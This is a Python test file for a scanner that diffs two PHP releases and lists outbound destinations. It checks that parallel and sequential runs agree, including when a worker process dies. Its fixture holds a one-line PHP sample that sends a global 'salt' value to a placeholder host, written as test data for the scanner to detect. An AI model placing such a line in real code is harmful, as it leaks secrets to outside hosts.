"""A comparison whose two program phases run at once gives what one after the other gives, whatever happens to one."""

from __future__ import annotations

import os
import signal
from pathlib import Path

import pytest

from scanner import pipeline
from scanner.facts.aside import Aside
from scanner.model.report import Comparison

PAGE = "<?php\nfunction send($u) { return file_get_contents($u); }\nsend('https://{host}/x?' . $GLOBALS['salt']);\n"


def release(folder: Path, host: str) -> str:
    (folder / "Classes").mkdir(parents=True)
    (folder / "index.php").write_text(PAGE.replace("{host}", host))
    (folder / "Classes" / "Same.php").write_text("<?php\nclass Same { function f() { return curl_exec($this->h); } }\n")
    return str(folder)


def compared(tmp_path: Path, jobs: int) -> Comparison:
    options = pipeline.ScanOptions(jobs=jobs, cache=None)
    return pipeline.diff(str(tmp_path / "old"), str(tmp_path / "new"), options)


@pytest.fixture
def pair(tmp_path: Path) -> Path:
    release(tmp_path / "old", "one.example")
    release(tmp_path / "new", "two.example")
    return tmp_path


def test_side_by_side_is_one_after_the_other(pair: Path) -> None:
    alone = compared(pair, 1)
    assert {item.host for item in alone.destinations} >= {"one.example", "two.example"}
    assert compared(pair, 2) == alone


def test_a_process_that_dies_changes_nothing(pair: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    alone = compared(pair, 1)
    monkeypatch.setattr(Aside, "result", lambda _self: None)
    assert compared(pair, 2) == alone


def test_a_dead_process_has_no_result() -> None:
    def dies() -> bytes:
        os.kill(os.getpid(), signal.SIGKILL)
        return b"never"

    def fails() -> bytes:
        raise MemoryError

    for compute, expected in ((dies, None), (fails, None), (lambda: b"done", b"done")):
        with Aside(compute) as aside:
            assert aside.result() == expected
